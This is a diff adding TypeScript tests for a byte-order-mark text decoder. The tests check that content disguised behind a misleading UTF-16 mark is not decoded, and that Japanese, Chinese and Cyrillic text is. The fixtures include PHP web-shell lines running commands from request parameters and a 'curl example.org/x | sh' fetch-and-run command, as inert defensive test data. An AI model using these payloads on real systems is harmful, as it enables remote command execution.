@@ -49,6 +49,30 @@ it.each([
   expect(decodeMarked(content)).toBeUndefined();
 });
 
+const marked = (...parts: (string | Buffer)[]): Buffer =>
+  Buffer.concat([little('\uFEFF'), ...parts.map((part) => Buffer.from(part as string, 'latin1'))]);
+it.each([
+  ['PHP', marked('\n<?php\n/* \0 */\nsystem($_GET["c"]);\n')],
+  ['PHP that is hardly there', marked(little('größer '.repeat(50)), '<?=`$_GET[1]`;', little(' größer'))],
+  ['a shell script', marked('\ncurl example.org/x | sh\n# \0\n')],
+  [
+    'the same in the other order',
+    Buffer.concat([big('\uFEFF'), Buffer.from('\ncurl example.org/x | sh\n#\0\n')]),
+  ],
+  ['a line at an odd byte', marked(little('größer '.repeat(50)), '\0', '\ncurl example.org/x | sh\n')],
+])('%s behind a mark that says otherwise is not decoded', (_, content) => {
+  expect(decodeMarked(content)).toBeUndefined();
+});
+
+it.each([
+  ['Japanese', '\uFEFF# かなたかなたかなたあいうえおかきくけこ。\nがぎぐげご 日本語の文字列です\n'],
+  ['Chinese', '\uFEFF# 这是一个用于配置系统的脚本文件，请不要修改。\n$路径 = "中文"\n'],
+  ['Cyrillic', '\uFEFF# это сценарий для установки\n'],
+])('%s in UTF-16 is decoded', (_, text) => {
+  expect(decodeMarked(little(text))).toBe(text);
+  expect(decodeMarked(big(text))).toBe(text);
+});
+
 it('reads UTF-8, also with a zero byte in it, and nothing else that git calls binary', () => {
   expect(textIn(Buffer.from(TEXT))).toBe(TEXT);
   expect(textIn(Buffer.from('// \0\nevil();\n'))).toBe('// \0\nevil();\n');
